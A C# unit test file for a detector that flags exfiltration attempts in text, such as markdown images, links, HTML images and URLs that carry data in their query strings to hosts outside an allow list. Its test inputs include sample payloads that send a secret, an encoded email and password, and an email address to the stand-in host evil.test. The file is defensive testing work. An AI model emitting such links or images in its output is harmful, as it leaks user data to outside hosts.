using Airs.Runtime.Detectors;

namespace Airs.Runtime.Tests.Detectors;

public class ExfilTests
{
    private static readonly string[] Allowed = ["example.com", "*.cdn.example.net"];

    [Fact]
    public void Markdown_image_to_unknown_domain_is_found_with_its_span()
    {
        const string image = "![x](https://evil.test/p.png?d=secret)";
        var text = "Here: " + image + " done";
        var m = Assert.Single(Exfil.Find(text, Allowed));
        Assert.Equal("markdown_image", m.Label);
        Assert.Equal(image, text.Substring(m.Start, m.Length));
    }

    [Theory]
    [InlineData("![logo](https://example.com/logo.png)")]
    [InlineData("![logo](https://img.example.com/logo.png)")]
    [InlineData("![logo](https://a.cdn.example.net/logo.png)")]
    [InlineData("see [the docs](https://docs.example.com/page?lang=en)")]
    [InlineData("plain https://other.test/page?page=2 link")]
    public void Allowed_or_harmless_links_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    [Fact]
    public void Subdomain_only_entry_does_not_allow_the_apex() =>
        Assert.NotEmpty(Exfil.Find("![x](https://cdn.example.net/a.png)", Allowed));

    [Fact]
    public void Lookalike_suffix_is_not_allowed() =>
        Assert.NotEmpty(Exfil.Find("![x](https://notexample.com/a.png)", Allowed));

    [Theory]
    [InlineData("[click](https://evil.test/x)", "markdown_link")]
    [InlineData("<img src=\"https://evil.test/a.png\">", "html_image")]
    [InlineData("visit https://evil.test/c?data=am9obkBleGFtcGxlLmNvbTpodW50ZXIy now", "url_query_data")]
    [InlineData("visit https://evil.test/c?u=jane.doe%40mail.example now", "url_query_data")]
    public void Links_images_and_query_data(string text, string label) => Assert.Equal(label, Assert.Single(Exfil.Find(text, Allowed)).Label);
}
